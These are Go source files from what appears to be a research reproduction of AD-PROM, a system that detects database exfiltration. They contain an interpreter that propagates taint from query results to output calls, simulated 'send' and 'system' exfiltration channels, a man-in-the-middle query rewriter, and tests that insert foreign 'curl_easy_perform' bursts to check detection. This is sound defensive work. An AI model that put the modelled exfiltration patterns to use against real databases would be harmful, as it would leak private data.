		t.Errorf("final event = %+v, want printf_Q0", last)
	}
}

func TestIndexOnNonRowIsLenient(t *testing.T) {
	w := runProg(t, nil, nil, func(e *ir.BlockBuilder) {
		e.Assign("x", ir.At(ir.S("str"), ir.I(0)))
		e.Call("printf", ir.S("%d"), ir.V("x"))
	})
	if got := w.Stdout.String(); got != "0" {
		t.Errorf("stdout = %q", got)
	}
}

func TestScanfExhaustionReturnsEmpty(t *testing.T) {
	w := runProg(t, nil, []string{"only"}, func(e *ir.BlockBuilder) {
		e.CallTo("a", "scanf", ir.S("%s"))
		e.CallTo("b", "gets")
		e.Call("printf", ir.S("[%s][%s]"), ir.V("a"), ir.V("b"))
	})
	if got := w.Stdout.String(); got != "[only][]" {
		t.Errorf("stdout = %q", got)
	}
}

func TestExtendedStringBuiltins(t *testing.T) {
	w := runProg(t, nil, nil, func(e *ir.BlockBuilder) {
		e.CallTo("a", "strncpy", ir.S("abcdef"), ir.I(3))
		e.CallTo("b", "strstr", ir.S("hello world"), ir.S("wor"))
		e.CallTo("c", "strchr", ir.S("a.b.c"), ir.S("."))
		e.CallTo("d", "toupper", ir.S("MiXeD"))
		e.CallTo("f2", "tolower", ir.S("MiXeD"))
		e.CallTo("g", "abs", ir.I(-42))
		e.Call("printf", ir.S("%s|%s|%s|%s|%s|%d"),
			ir.V("a"), ir.V("b"), ir.V("c"), ir.V("d"), ir.V("f2"), ir.V("g"))
	})
	if got, want := w.Stdout.String(), "abc|world|.b.c|MIXED|mixed|42"; got != want {
		t.Errorf("stdout = %q, want %q", got, want)
	}
}

func TestStrstrMissReturnsNull(t *testing.T) {
	w := runProg(t, nil, nil, func(e *ir.BlockBuilder) {
		e.CallTo("x", "strstr", ir.S("abc"), ir.S("zzz"))
		e.CallTo("y", "strchr", ir.S("abc"), ir.S("z"))
		e.Call("printf", ir.S("%d%d"), ir.V("x"), ir.V("y"))
	})
	if got := w.Stdout.String(); got != "00" {
		t.Errorf("stdout = %q", got)
	}
}

// TestTaintThroughNewDerivers: TD surviving strstr/strncpy laundering still
// labels the output.
func TestTaintThroughNewDerivers(t *testing.T) {
	db := minidb.New()
	db.MustExec("CREATE TABLE t (s TEXT)")
	db.MustExec("INSERT INTO t VALUES ('secret-value')")
	world := runProg(t, db, nil, func(e *ir.BlockBuilder) {
		e.CallTo("conn", "PQconnectdb")
		e.CallTo("res", "PQexec", ir.V("conn"), ir.S("SELECT s FROM t"))
		e.CallTo("v", "PQgetvalue", ir.V("res"), ir.I(0), ir.I(0))
		e.CallTo("part", "strstr", ir.V("v"), ir.S("value"))
		e.CallTo("up", "toupper", ir.V("part"))
		e.Call("printf", ir.S("%s"), ir.V("up"))
	})
	if got := world.Stdout.String(); got != "VALUE" {
		t.Errorf("stdout = %q", got)
	}
}
