// Package interp executes internal/ir programs and emits one observable
// event per library call.
//
// The interpreter is the reproduction's stand-in for running an instrumented
// binary: where the paper's Calls Collector attaches Dyninst probes to
// intercept library calls (with the caller function resolved from the
// instruction pointer), here collector hooks receive an Event per executed
// LibCall with the caller and basic-block id attached.
//
// The interpreter also performs the dynamic half of AD-PROM's data-flow
// analysis: values derived from database results carry a Taint of query
// Origins, and output calls whose arguments are tainted are labelled
// name_Q[bid] in the emitted event (paper §IV-D, Figure 9).
package interp

import (
	"errors"
	"fmt"

	"adprom/internal/callspec"
	"adprom/internal/dbclient"
	"adprom/internal/ir"
)

// Errors returned by Run.
var (
	// ErrSteps means the step budget was exhausted — an unbounded loop, or a
	// budget set too low for the workload.
	ErrSteps = errors.New("interp: step limit exceeded")
	// ErrDepth means user-function recursion exceeded the depth limit.
	ErrDepth = errors.New("interp: call depth exceeded")
	// ErrRuntime wraps type errors and other faults in the program itself.
	ErrRuntime = errors.New("interp: runtime error")
)

// Event is one observed library call. Hooks receive a pointer for efficiency
// but must not retain it past the call; collectors copy what they keep.
type Event struct {
	// Seq is the 0-based position of the event in this run.
	Seq int
	// Name is the plain library call name (printf, PQexec, ...).
	Name string
	// Label is the observation symbol: Name, or Name_Q<bid> when the call is
	// an output statement that received targeted data.
	Label string
	// Caller is the function containing the call site; Block/Stmt locate it.
	Caller string
	Block  int
	Stmt   int
	// Origins lists the query origins of the leaked data when Label is a
	// _Q label; nil otherwise.
	Origins []Origin
	// SQL is the query text as it crossed the wire (after any MITM rewrite)
	// when the call executed a query (PQexec, mysql_query); "" otherwise.
	SQL string
	// Rows is the result cardinality of a query call: NTuples for a
	// row-returning statement, 0 for errors and non-query calls.
	Rows int
	// Args holds rendered call arguments, captured only when
	// Options.CaptureArgs is set (the ltrace-style costly mode of Table VI).
	Args []string
}

// Hook observes events during execution.
type Hook func(*Event)

// Options tune one interpreter instance.
type Options struct {
	// CaptureArgs renders every call's arguments into Event.Args, emulating
	// ltrace's argument capture (the expensive baseline of Table VI).
	CaptureArgs bool
	// MaxSteps bounds executed statements (default 2,000,000).
	MaxSteps int
	// MaxDepth bounds user-call recursion (default 256).
	MaxDepth int
}

func (o Options) withDefaults() Options {
	if o.MaxSteps <= 0 {
		o.MaxSteps = 2_000_000
	}
	if o.MaxDepth <= 0 {
		o.MaxDepth = 256
	}
	return o
}

// Interp executes one program against one world.
type Interp struct {
	prog  *ir.Program
	world *World
	opts  Options
	hooks []Hook
}

// New builds an interpreter for prog in world (a nil world gets a fresh one).
func New(prog *ir.Program, world *World, opts Options) *Interp {
	if world == nil {
		world = NewWorld(nil)
	}
	return &Interp{prog: prog, world: world, opts: opts.withDefaults()}
}

// World returns the interpreter's world.
func (ip *Interp) World() *World { return ip.world }

// AddHook registers a call observer. Hooks run in registration order on
// every library call.
func (ip *Interp) AddHook(h Hook) { ip.hooks = append(ip.hooks, h) }

// RunResult summarises one execution.
type RunResult struct {
	// Return is the entry function's return value.
	Return Value
	// Steps counts executed statements and block transfers.
	Steps int
	// Calls counts emitted library-call events.
	Calls int
}

// Run executes the program's entry function. input supplies the tokens
// consumed by scanf/gets/read, i.e. the test case.
func (ip *Interp) Run(input ...string) (*RunResult, error) {
	entry := ip.prog.EntryFunc()
	if entry == nil {
		return nil, fmt.Errorf("%w: entry function %q not found", ErrRuntime, ip.prog.Entry)
	}
	x := &exec{ip: ip, input: input, pending: map[*dbclient.Conn]pendingResult{}}
	ret, err := x.callFunction(entry, nil)
	if err != nil {
		return nil, err
	}
	return &RunResult{Return: ret, Steps: x.steps, Calls: x.seq}, nil
}

type pendingResult struct {
	res    *dbclient.Result
	origin Origin
	err    error
}

type exec struct {
	ip      *Interp
	input   []string
	inPos   int
	steps   int
	depth   int
	seq     int
	pending map[*dbclient.Conn]pendingResult
}

func (x *exec) nextInput() (string, bool) {
	if x.inPos >= len(x.input) {
		return "", false
	}
	s := x.input[x.inPos]
	x.inPos++
	return s, true
}

type frame struct {
	fn   *ir.Function
	vars map[string]Value
}

func (x *exec) callFunction(fn *ir.Function, args []Value) (Value, error) {
	x.depth++
	if x.depth > x.ip.opts.MaxDepth {
		return Value{}, fmt.Errorf("%w: in %s", ErrDepth, fn.Name)
	}
	defer func() { x.depth-- }()

	fr := &frame{fn: fn, vars: make(map[string]Value, 8)}
	for i, p := range fn.Params {
		if i < len(args) {
			fr.vars[p] = args[i]
		} else {
			fr.vars[p] = NullV()
		}
	}

	blk := fn.Blocks[0]
	for {
		for si, st := range blk.Stmts {
			if err := x.step(fn.Name, blk.ID); err != nil {
				return Value{}, err
			}
			if err := x.execStmt(fr, blk, si, st); err != nil {
				return Value{}, err
			}
		}
		switch t := blk.Term.(type) {
		case ir.Goto:
			blk = fn.Blocks[t.Target]
		case ir.If:
			cond, err := x.eval(fr, t.Cond)
			if err != nil {
				return Value{}, x.where(err, fn.Name, blk.ID)
			}
			if cond.Truthy() {
				blk = fn.Blocks[t.Then]
			} else {
				blk = fn.Blocks[t.Else]
			}
		case ir.Return:
			if t.Val == nil {
				return NullV(), nil
			}
			v, err := x.eval(fr, t.Val)
			if err != nil {
				return Value{}, x.where(err, fn.Name, blk.ID)
			}
			return v, nil
		default:
			return Value{}, fmt.Errorf("%w: %s:b%d: unknown terminator %T", ErrRuntime, fn.Name, blk.ID, blk.Term)
		}
		if err := x.step(fn.Name, blk.ID); err != nil {
			return Value{}, err
		}
	}
}

func (x *exec) step(fn string, blk int) error {
	x.steps++
	if x.steps > x.ip.opts.MaxSteps {
		return fmt.Errorf("%w: at %s:b%d after %d steps", ErrSteps, fn, blk, x.steps-1)
	}
	return nil
}

func (x *exec) where(err error, fn string, blk int) error {
	if err == nil {
		return nil
	}
	return fmt.Errorf("%s:b%d: %w", fn, blk, err)
}

func (x *exec) execStmt(fr *frame, blk *ir.Block, si int, st ir.Stmt) error {
	switch s := st.(type) {
	case ir.Assign:
		v, err := x.eval(fr, s.Src)
		if err != nil {
			return x.where(err, fr.fn.Name, blk.ID)
		}
		fr.vars[s.Dst] = v
		return nil

	case ir.LibCall:
		args := make([]Value, len(s.Args))
		for i, a := range s.Args {
			v, err := x.eval(fr, a)
			if err != nil {
				return x.where(err, fr.fn.Name, blk.ID)
			}
			args[i] = v
		}
		site := ir.CallSite{Func: fr.fn.Name, Block: blk.ID, Stmt: si}
		ret, err := x.callBuiltin(s.Name, args, site)
		if err != nil {
			return x.where(err, fr.fn.Name, blk.ID)
		}
		if s.Dst != "" {
			fr.vars[s.Dst] = ret
		}
		return nil

	case ir.UserCall:
		callee := x.ip.prog.Func(s.Name)
		if callee == nil {
			return fmt.Errorf("%w: %s:b%d: undefined function %q", ErrRuntime, fr.fn.Name, blk.ID, s.Name)
		}
		args := make([]Value, len(s.Args))
		for i, a := range s.Args {
			v, err := x.eval(fr, a)
			if err != nil {
				return x.where(err, fr.fn.Name, blk.ID)
			}
			args[i] = v
		}
		ret, err := x.callFunction(callee, args)
		if err != nil {
			return err
		}
		if s.Dst != "" {
			fr.vars[s.Dst] = ret
		}
		return nil

	default:
		return fmt.Errorf("%w: %s:b%d: unknown statement %T", ErrRuntime, fr.fn.Name, blk.ID, st)
	}
}

func (x *exec) eval(fr *frame, e ir.Expr) (Value, error) {
	switch ex := e.(type) {
	case ir.IntLit:
		return IntV(ex.V), nil
	case ir.StrLit:
		return StrV(ex.V), nil
	case ir.Var:
		v, ok := fr.vars[ex.Name]
		if !ok {
			// Uninitialised reads behave like C zero-initialised statics: the
			// dataset programs occasionally read counters before first store.
			return NullV(), nil
		}
		return v, nil
	case ir.Bin:
		return x.evalBin(fr, ex)
	case ir.Index:
		xv, err := x.eval(fr, ex.X)
		if err != nil {
			return Value{}, err
		}
		iv, err := x.eval(fr, ex.I)
		if err != nil {
			return Value{}, err
		}
		if xv.Kind != KRow {
			// Indexing a non-row (e.g. the NULL that ends a fetch loop)
			// yields null, like the garbage a C program would read; the
			// taint still propagates so attacker-inserted prints of it are
			// labelled.
			return NullV().WithTaint(xv.Taint), nil
		}
		i := int(iv.AsInt())
		if i < 0 || i >= len(xv.Row) {
			return NullV().WithTaint(xv.Taint), nil
		}
		return StrV(xv.Row[i]).WithTaint(xv.Taint), nil
	default:
		return Value{}, fmt.Errorf("%w: unknown expression %T", ErrRuntime, e)
	}
}

func (x *exec) evalBin(fr *frame, b ir.Bin) (Value, error) {
	l, err := x.eval(fr, b.L)
	if err != nil {
		return Value{}, err
	}
	// Short-circuit booleans before evaluating the right side.
	switch b.Op {
	case ir.OpAnd:
		if !l.Truthy() {
			return IntV(0).WithTaint(l.Taint), nil
		}
		r, err := x.eval(fr, b.R)
		if err != nil {
			return Value{}, err
		}
		return boolV(r.Truthy()).WithTaint(l.Taint.Union(r.Taint)), nil
	case ir.OpOr:
		if l.Truthy() {
			return IntV(1).WithTaint(l.Taint), nil
		}
		r, err := x.eval(fr, b.R)
		if err != nil {
			return Value{}, err
		}
		return boolV(r.Truthy()).WithTaint(l.Taint.Union(r.Taint)), nil
	}

	r, err := x.eval(fr, b.R)
	if err != nil {
		return Value{}, err
	}
	t := l.Taint.Union(r.Taint)
	switch b.Op {
	case ir.OpCat:
		return StrV(l.Text() + r.Text()).WithTaint(t), nil
	case ir.OpAdd:
		return IntV(l.AsInt() + r.AsInt()).WithTaint(t), nil
	case ir.OpSub:
		return IntV(l.AsInt() - r.AsInt()).WithTaint(t), nil
	case ir.OpMul:
		return IntV(l.AsInt() * r.AsInt()).WithTaint(t), nil
	case ir.OpDiv:
		d := r.AsInt()
		if d == 0 {
			return IntV(0).WithTaint(t), nil
		}
		return IntV(l.AsInt() / d).WithTaint(t), nil
	case ir.OpMod:
		d := r.AsInt()
		if d == 0 {
			return IntV(0).WithTaint(t), nil
		}
		return IntV(l.AsInt() % d).WithTaint(t), nil
	case ir.OpEq, ir.OpNe, ir.OpLt, ir.OpLe, ir.OpGt, ir.OpGe:
		return boolV(compare(l, r, b.Op)).WithTaint(t), nil
	default:
		return Value{}, fmt.Errorf("%w: unknown operator %v", ErrRuntime, b.Op)
	}
}

func boolV(b bool) Value {
	if b {
		return IntV(1)
	}
	return IntV(0)
}

// compare applies a relational operator with C-ish coercion: two strings
// compare lexically, otherwise both sides compare as integers.
func compare(l, r Value, op ir.Op) bool {
	var c int
	if l.Kind == KStr && r.Kind == KStr {
		switch {
		case l.Str < r.Str:
			c = -1
		case l.Str > r.Str:
			c = 1
		}
	} else {
		a, b := l.AsInt(), r.AsInt()
		switch {
		case a < b:
			c = -1
		case a > b:
			c = 1
		}
	}
	switch op {
	case ir.OpEq:
		return c == 0
	case ir.OpNe:
		return c != 0
	case ir.OpLt:
		return c < 0
	case ir.OpLe:
		return c <= 0
	case ir.OpGt:
		return c > 0
	case ir.OpGe:
		return c >= 0
	default:
		return false
	}
}

// emit delivers one event to the hooks. Label selection implements the
// dynamic instrumentation of §IV-D: output calls carrying TD are renamed to
// their _Q form so the downstream model can tell line-9 printf from line-11
// printf in Figure 9.
func (x *exec) emit(name string, args []Value, site ir.CallSite, sql string, rows int) {
	ev := Event{
		Seq:    x.seq,
		Name:   name,
		Label:  name,
		Caller: site.Func,
		Block:  site.Block,
		Stmt:   site.Stmt,
		SQL:    sql,
		Rows:   rows,
	}
	x.seq++
	if callspec.IsOutput(name) {
		var taint Taint
		for _, a := range args {
			taint = taint.Union(a.Taint)
		}
		if len(taint) > 0 {
			ev.Label = callspec.QLabel(name, site.Block)
			ev.Origins = taint.Origins()
		}
	}
	if x.ip.opts.CaptureArgs {
		rendered := make([]string, len(args))
		for i, a := range args {
			rendered[i] = a.Text()
		}
		ev.Args = rendered
	}
	for _, h := range x.ip.hooks {
		h(&ev)
	}
}
