package interp

import (
	"fmt"
	"strconv"
	"strings"

	"adprom/internal/dbclient"
	"adprom/internal/ir"
)

// callBuiltin executes one library call, emitting its event first (the
// collector sees the call on entry, like an instrumented call does). The
// two query calls are the exception: they emit after the statement ran so
// the event carries the wire query and result cardinality for the SQL
// channel — still exactly one event per call, in the same stream position,
// since query execution itself emits nothing.
//
// Unknown call names still emit an event and return null: the attack
// framework may splice in calls the runtime has no semantics for, and what
// matters to the detector is that the call appears in the trace.
func (x *exec) callBuiltin(name string, args []Value, site ir.CallSite) (Value, error) {
	if name != "PQexec" && name != "mysql_query" {
		x.emit(name, args, site, "", 0)
	}
	w := x.ip.world

	switch name {
	// ---- terminal output -------------------------------------------------
	case "printf":
		s, t := x.format(args)
		w.Stdout.WriteString(s)
		_ = t
		return IntV(int64(len(s))), nil
	case "puts":
		s := argText(args, 0)
		w.Stdout.WriteString(s + "\n")
		return IntV(int64(len(s) + 1)), nil

	// ---- string formatting -----------------------------------------------
	case "sprintf":
		s, t := x.format(args)
		return StrV(s).WithTaint(t), nil
	case "snprintf":
		if len(args) == 0 {
			return StrV(""), nil
		}
		limit := int(args[0].AsInt())
		s, t := x.format(args[1:])
		if limit >= 0 && len(s) > limit {
			s = s[:limit]
		}
		return StrV(s).WithTaint(t), nil

	// ---- file output -----------------------------------------------------
	case "fprintf":
		if len(args) == 0 || args[0].Kind != KFile {
			return Value{}, fmt.Errorf("%w: fprintf needs a file argument", ErrRuntime)
		}
		s, t := x.format(args[1:])
		args[0].File.Write(s, t)
		return IntV(int64(len(s))), nil
	case "fputs", "fwrite":
		// fputs(s, file) / fwrite(s, file)
		if len(args) < 2 || args[1].Kind != KFile {
			return Value{}, fmt.Errorf("%w: %s needs (data, file) arguments", ErrRuntime, name)
		}
		s := args[0].Text()
		args[1].File.Write(s, args[0].Taint)
		return IntV(int64(len(s))), nil
	case "fputc":
		if len(args) < 2 || args[1].Kind != KFile {
			return Value{}, fmt.Errorf("%w: fputc needs (char, file) arguments", ErrRuntime)
		}
		var s string
		if args[0].Kind == KInt {
			s = string(rune(args[0].Int))
		} else {
			t := args[0].Text()
			if t != "" {
				s = t[:1]
			}
		}
		args[1].File.Write(s, args[0].Taint)
		return IntV(1), nil
	case "write":
		// write(file, data) or write(1, data) for stdout.
		if len(args) < 2 {
			return Value{}, fmt.Errorf("%w: write needs (target, data) arguments", ErrRuntime)
		}
		s := args[1].Text()
		switch {
		case args[0].Kind == KFile:
			args[0].File.Write(s, args[1].Taint)
		default:
			w.Stdout.WriteString(s)
		}
		return IntV(int64(len(s))), nil

	// ---- network / process exfiltration channels ---------------------------
	case "send":
		payload := argText(args, len(args)-1)
		w.Net = append(w.Net, "send:"+payload)
		return IntV(int64(len(payload))), nil
	case "system":
		cmd := argText(args, 0)
		w.Net = append(w.Net, "system:"+cmd)
		return IntV(0), nil

	// ---- input -------------------------------------------------------------
	case "scanf", "gets", "read", "getline":
		s, _ := x.nextInput()
		return StrV(s), nil

	// ---- virtual filesystem -------------------------------------------------
	case "fopen":
		f := w.OpenFile(argText(args, 0), argText(args, 1))
		return Value{Kind: KFile, File: f}, nil
	case "fclose":
		return IntV(0), nil
	case "fgets":
		if len(args) == 0 || args[0].Kind != KFile {
			return Value{}, fmt.Errorf("%w: fgets needs a file argument", ErrRuntime)
		}
		line, ok := args[0].File.ReadLine()
		if !ok {
			return NullV(), nil
		}
		return StrV(line).WithTaint(args[0].File.TaintedBy), nil

	// ---- libpq --------------------------------------------------------------
	case "PQconnectdb":
		return Value{Kind: KConn, Conn: x.connect(w)}, nil
	case "PQfinish":
		if c := argConn(args, 0); c != nil {
			c.Close()
		}
		return NullV(), nil
	case "PQexec":
		conn := argConn(args, 0)
		if conn == nil {
			x.emit(name, args, site, "", 0)
			return Value{}, fmt.Errorf("%w: PQexec needs a connection", ErrRuntime)
		}
		sql := argText(args, 1)
		origin := Origin{Func: site.Func, Block: site.Block}
		res, err := conn.Exec(sql)
		wire := lastWireQuery(conn, sql)
		w.Queries = append(w.Queries, QueryRecord{Origin: origin, SQL: wire})
		x.emit(name, args, site, wire, resultRows(res, err))
		if err != nil {
			return NullV(), nil // programs test the handle, as with PQresultStatus
		}
		return Value{Kind: KResult, Result: res, Taint: NewTaint(origin)}, nil
	case "PQntuples":
		r := argResult(args, 0)
		return IntV(int64(r.NTuples())).WithTaint(argTaint(args, 0)), nil
	case "PQnfields":
		r := argResult(args, 0)
		return IntV(int64(r.NFields())).WithTaint(argTaint(args, 0)), nil
	case "PQgetvalue":
		r := argResult(args, 0)
		row := int(argInt(args, 1))
		col := int(argInt(args, 2))
		return StrV(r.Value(row, col)).WithTaint(argTaint(args, 0)), nil
	case "PQclear":
		return NullV(), nil

	// ---- MySQL C API ----------------------------------------------------------
	case "mysql_init", "mysql_real_connect":
		return Value{Kind: KConn, Conn: x.connect(w)}, nil
	case "mysql_close":
		if c := argConn(args, 0); c != nil {
			c.Close()
		}
		return NullV(), nil
	case "mysql_query":
		conn := argConn(args, 0)
		if conn == nil {
			x.emit(name, args, site, "", 0)
			return Value{}, fmt.Errorf("%w: mysql_query needs a connection", ErrRuntime)
		}
		sql := argText(args, 1)
		origin := Origin{Func: site.Func, Block: site.Block}
		res, err := conn.Exec(sql)
		wire := lastWireQuery(conn, sql)
		w.Queries = append(w.Queries, QueryRecord{Origin: origin, SQL: wire})
		x.emit(name, args, site, wire, resultRows(res, err))
		x.pending[conn] = pendingResult{res: res, origin: origin, err: err}
		if err != nil {
			return IntV(1), nil // non-zero status, like the C API
		}
		return IntV(0), nil
	case "mysql_store_result":
		conn := argConn(args, 0)
		if conn == nil {
			return Value{}, fmt.Errorf("%w: mysql_store_result needs a connection", ErrRuntime)
		}
		p, ok := x.pending[conn]
		if !ok || p.err != nil || p.res == nil {
			return NullV(), nil
		}
		return Value{Kind: KResult, Result: p.res, Taint: NewTaint(p.origin)}, nil
	case "mysql_fetch_row":
		r := argResult(args, 0)
		if r == nil {
			return NullV(), nil
		}
		row, ok := r.FetchRow()
		if !ok {
			return NullV().WithTaint(argTaint(args, 0)), nil
		}
		return RowV(row).WithTaint(argTaint(args, 0)), nil
	case "mysql_num_rows":
		return IntV(int64(argResult(args, 0).NTuples())).WithTaint(argTaint(args, 0)), nil
	case "mysql_num_fields":
		return IntV(int64(argResult(args, 0).NFields())).WithTaint(argTaint(args, 0)), nil
	case "mysql_free_result":
		return NullV(), nil
	case "mysql_error":
		if c := argConn(args, 0); c != nil && c.LastError() != nil {
			return StrV(c.LastError().Error()), nil
		}
		return StrV(""), nil

	// ---- libc string/utility ---------------------------------------------------
	case "strcpy":
		// strcpy(dst, src) returns src's content; the 1-arg form copies its
		// only argument.
		v := args[len(args)-1]
		return StrV(v.Text()).WithTaint(v.Taint), nil
	case "strcat":
		var sb strings.Builder
		var t Taint
		for _, a := range args {
			sb.WriteString(a.Text())
			t = t.Union(a.Taint)
		}
		return StrV(sb.String()).WithTaint(t), nil
	case "strlen":
		return IntV(int64(len(argText(args, 0)))).WithTaint(argTaint(args, 0)), nil
	case "strncpy":
		// strncpy(src, n) — the dst is the binding, as with strcpy.
		s := argText(args, 0)
		if n := int(argInt(args, 1)); n >= 0 && n < len(s) {
			s = s[:n]
		}
		return StrV(s).WithTaint(argTaint(args, 0)), nil
	case "strstr":
		hay, needle := argText(args, 0), argText(args, 1)
		i := strings.Index(hay, needle)
		if i < 0 {
			return NullV().WithTaint(argTaint(args, 0)), nil
		}
		return StrV(hay[i:]).WithTaint(argTaint(args, 0)), nil
	case "strchr":
		s := argText(args, 0)
		var ch byte
		if len(args) > 1 {
			if args[1].Kind == KInt {
				ch = byte(args[1].Int)
			} else if t := args[1].Text(); t != "" {
				ch = t[0]
			}
		}
		i := strings.IndexByte(s, ch)
		if i < 0 {
			return NullV().WithTaint(argTaint(args, 0)), nil
		}
		return StrV(s[i:]).WithTaint(argTaint(args, 0)), nil
	case "toupper":
		return StrV(strings.ToUpper(argText(args, 0))).WithTaint(argTaint(args, 0)), nil
	case "tolower":
		return StrV(strings.ToLower(argText(args, 0))).WithTaint(argTaint(args, 0)), nil
	case "abs":
		v := argInt(args, 0)
		if v < 0 {
			v = -v
		}
		return IntV(v).WithTaint(argTaint(args, 0)), nil
	case "strcmp":
		a, b := argText(args, 0), argText(args, 1)
		return IntV(int64(strings.Compare(a, b))).WithTaint(argTaint(args, 0).Union(argTaint(args, 1))), nil
	case "atoi":
		return IntV(args[0].AsInt()).WithTaint(argTaint(args, 0)), nil
	case "itoa":
		return StrV(strconv.FormatInt(argInt(args, 0), 10)).WithTaint(argTaint(args, 0)), nil
	case "memcpy":
		if len(args) == 0 {
			return NullV(), nil
		}
		return args[len(args)-1], nil
	case "malloc":
		return IntV(1), nil // opaque non-null pointer
	case "free":
		return NullV(), nil

	default:
		// Unknown library call: observable but inert.
		return NullV(), nil
	}
}

// connect opens a client connection, wiring in the world's man-in-the-middle
// rewriter when one is present (attack 3.2).
func (x *exec) connect(w *World) *dbclient.Conn {
	c := dbclient.Connect(w.DB)
	if w.Rewriter != nil {
		c.SetRewriter(w.Rewriter)
	}
	return c
}

// format implements the C format-string subset the dataset programs use:
// %s, %d, %c and %% (with optional flags/width digits, which are accepted and
// ignored). args[0] is the format; remaining args feed the verbs in order.
func (x *exec) format(args []Value) (string, Taint) {
	if len(args) == 0 {
		return "", nil
	}
	f := args[0].Text()
	taint := args[0].Taint
	rest := args[1:]
	var sb strings.Builder
	ai := 0
	nextArg := func() Value {
		if ai < len(rest) {
			v := rest[ai]
			ai++
			taint = taint.Union(v.Taint)
			return v
		}
		return NullV()
	}
	for i := 0; i < len(f); i++ {
		c := f[i]
		if c != '%' {
			sb.WriteByte(c)
			continue
		}
		i++
		if i >= len(f) {
			sb.WriteByte('%')
			break
		}
		// Skip flags and width digits: %-8s, %02d, etc.
		for i < len(f) && (f[i] == '-' || f[i] == '0' || f[i] == '+' || f[i] == ' ' || f[i] == '.' || (f[i] >= '1' && f[i] <= '9')) {
			i++
		}
		if i >= len(f) {
			break
		}
		switch f[i] {
		case '%':
			sb.WriteByte('%')
		case 's':
			sb.WriteString(nextArg().Text())
		case 'd', 'i', 'u', 'l', 'f':
			sb.WriteString(strconv.FormatInt(nextArg().AsInt(), 10))
		case 'c':
			v := nextArg()
			if v.Kind == KInt {
				sb.WriteRune(rune(v.Int))
			} else if s := v.Text(); s != "" {
				sb.WriteByte(s[0])
			}
		default:
			// Unknown verb: emit literally, consuming no argument.
			sb.WriteByte('%')
			sb.WriteByte(f[i])
		}
	}
	// Any leftover args append space-separated, letting dataset programs call
	// printf("prefix", v) loosely.
	for ; ai < len(rest); ai++ {
		taint = taint.Union(rest[ai].Taint)
		sb.WriteByte(' ')
		sb.WriteString(rest[ai].Text())
	}
	return sb.String(), taint
}

func argText(args []Value, i int) string {
	if i < 0 || i >= len(args) {
		return ""
	}
	return args[i].Text()
}

func argInt(args []Value, i int) int64 {
	if i < 0 || i >= len(args) {
		return 0
	}
	return args[i].AsInt()
}

func argTaint(args []Value, i int) Taint {
	if i < 0 || i >= len(args) {
		return nil
	}
	return args[i].Taint
}

func argConn(args []Value, i int) *dbclient.Conn {
	if i < 0 || i >= len(args) || args[i].Kind != KConn {
		return nil
	}
	return args[i].Conn
}

func argResult(args []Value, i int) *dbclient.Result {
	if i < 0 || i >= len(args) || args[i].Kind != KResult {
		return nil
	}
	return args[i].Result
}

// resultRows is the cardinality a query event reports: the tuple count of a
// successful row-returning statement, 0 for errors and non-SELECT statements.
func resultRows(res *dbclient.Result, err error) int {
	if err != nil || res == nil {
		return 0
	}
	return res.NTuples()
}

// lastWireQuery returns the query as it crossed the wire (after any MITM
// rewriter), falling back to the submitted text when the connection recorded
// nothing (e.g. it was already closed).
func lastWireQuery(c *dbclient.Conn, submitted string) string {
	qs := c.WireQueries()
	if len(qs) == 0 {
		return submitted
	}
	return qs[len(qs)-1]
}
