package profile

import (
	"context"
	"testing"

	"adprom/internal/collector"
	"adprom/internal/dataset"
	"adprom/internal/hmm"
)

// driftTraces injects a systematic behavioural shift into every trace: a new
// telemetry call (unknown to the original alphabet) every stride calls — the
// benign-drift scenario where an application update changes its library-call
// mix without any attack.
func driftTraces(traces []collector.Trace, stride int) []collector.Trace {
	out := make([]collector.Trace, len(traces))
	for i, tr := range traces {
		var mutated collector.Trace
		for j, c := range tr {
			mutated = append(mutated, c)
			if j%stride == stride-1 {
				mutated = append(mutated, collector.Call{
					Label: "sd_journal_send", Name: "sd_journal_send", Caller: c.Caller,
				})
			}
		}
		out[i] = mutated
	}
	return out
}

// countFlagged counts sliding windows scoring below the profile threshold.
func countFlagged(p *Profile, traces []collector.Trace) (flagged, total int) {
	for _, tr := range traces {
		for _, w := range tr.LabelWindows(p.WindowLen) {
			total++
			if p.Score(w) < p.Threshold {
				flagged++
			}
		}
	}
	return flagged, total
}

// TestRetrainRestoresFalsePositiveRate reproduces the concept-drift failure
// mode end to end at the profile layer: drifted-but-benign traces flood the
// stale profile with false positives; a warm-started retrain on those traces
// eliminates them, while the original profile object stays untouched.
func TestRetrainRestoresFalsePositiveRate(t *testing.T) {
	app := dataset.AppH()
	base, traces := buildFor(t, app, Options{Train: hmm.TrainOptions{MaxIters: 6}})
	drifted := driftTraces(traces, 5)

	staleFP, total := countFlagged(base, drifted)
	if staleFP == 0 {
		t.Fatalf("drift injection raised no false positives over %d windows; test premise broken", total)
	}

	prevThreshold := base.Threshold
	next, err := Retrain(context.Background(), base, drifted, RetrainOptions{
		Train: hmm.TrainOptions{MaxIters: 6},
	})
	if err != nil {
		t.Fatal(err)
	}
	if base.Threshold != prevThreshold {
		t.Fatal("Retrain mutated the base profile's threshold")
	}
	if next == base || next.Model == base.Model {
		t.Fatal("Retrain returned the base profile or shared its model")
	}

	freshFP, _ := countFlagged(next, drifted)
	if freshFP != 0 {
		t.Errorf("retrained profile still flags %d/%d drifted-normal windows (stale: %d)",
			freshFP, total, staleFP)
	}

	// The refreshed caller index must accept the drifted call's callers: no
	// OutOfContext storm after the swap. The label itself is outside the
	// frozen alphabet, so it must stay un-"known" (probability handles it).
	if next.KnownLabel("sd_journal_send") {
		t.Error("frozen alphabet grew a new label")
	}
	if got, want := len(next.Symbols), len(base.Symbols); got != want {
		t.Errorf("alphabet size changed: %d != %d", got, want)
	}
}

// TestRetrainStillDetectsAttacks: adapting to benign drift must not blind the
// detector — a foreign-call burst (A-S2 style) still scores far below the
// refreshed threshold.
func TestRetrainStillDetectsAttacks(t *testing.T) {
	app := dataset.AppH()
	base, traces := buildFor(t, app, Options{Train: hmm.TrainOptions{MaxIters: 6}})
	drifted := driftTraces(traces, 5)
	next, err := Retrain(context.Background(), base, drifted, RetrainOptions{
		Train: hmm.TrainOptions{MaxIters: 6},
	})
	if err != nil {
		t.Fatal(err)
	}

	var sample []string
	for _, tr := range drifted {
		for _, w := range tr.LabelWindows(next.WindowLen) {
			if len(w) == next.WindowLen {
				sample = append([]string(nil), w...)
				break
			}
		}
		if sample != nil {
			break
		}
	}
	if sample == nil {
		t.Fatal("no full window in drifted corpus")
	}
	foreign := append([]string(nil), sample...)
	for i := len(foreign) - 6; i < len(foreign); i++ {
		foreign[i] = "curl_easy_perform"
	}
	if s := next.Score(foreign); s >= next.Threshold {
